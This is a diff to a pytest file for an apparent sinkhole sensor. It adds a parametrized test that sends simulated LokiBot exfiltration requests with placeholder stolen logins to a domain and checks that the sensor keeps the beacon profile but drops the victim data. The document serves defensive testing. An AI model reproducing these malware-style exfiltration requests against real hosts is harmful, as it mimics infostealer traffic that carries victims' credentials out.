@@ -8,7 +8,7 @@ import pytest
 
 from harness import paths
 from harness.ask import addresses, ask
-from harness.clients import BROWSER, curl
+from harness.clients import BROWSER, curl, lokibot, lokibot_request, send_raw
 from harness.site import Site
 
 SECRETS = ("tanaka-hanako", "pass-w0rd-4711", "insurance-000123", "session-abcdef", "q-private-words", "referer-secret")
@@ -92,3 +92,26 @@ def test_another_host_behind_the_same_proxy_is_evidence(proxied):
     through(GET_A % (MARKS + b"\r\n" + forwarded("10.1.1.8")), rest)
     event = proxied.await_contacts(source="10.1.1.9")[0]
     assert event["url"]["query"] == "q=1" and event["sinkhole"]["raw"]["kept"] > 0
+
+
+STOLEN = b"compressed-logins-" * 20
+WITH_LOGINS = {
+    "in one piece": lambda host: lokibot_request(host, lokibot(STOLEN)),
+    "broken off": lambda host: lokibot_request(host, lokibot(STOLEN), "Content-Length: 9000"),
+    "in chunks": lambda host: lokibot_request(
+        host, b"%x\r\n%b\r\n0\r\n\r\n" % (len(lokibot(STOLEN)), lokibot(STOLEN)), "Transfer-Encoding: chunked").replace(
+            b"HTTP/1.0", b"HTTP/1.1"),
+}
+
+
+@pytest.mark.parametrize("way", WITH_LOGINS)
+def test_what_malware_has_stolen_is_not_kept(sensor, way):
+    """Its profile is evidence, the logins behind it are the victim's."""
+    source = paths.client(430 + list(WITH_LOGINS).index(way))
+    sent = WITH_LOGINS[way]("www.ims.gr.jp")
+    send_raw(sent, addresses(ask("www.ims.gr.jp", source=source))[0], 80, source)
+    event = sensor.await_contacts(source=source)[0]["sinkhole"]
+    assert event["beacon"]["family"] == "LokiBot" and event["raw"]["bytes"] == len(sent)
+    kept = base64.b64decode(event["raw"].get("data", ""))
+    assert kept == (b"" if way == "in chunks" else sent[:sent.index(STOLEN)])
+    assert len(kept) == event["raw"]["kept"]
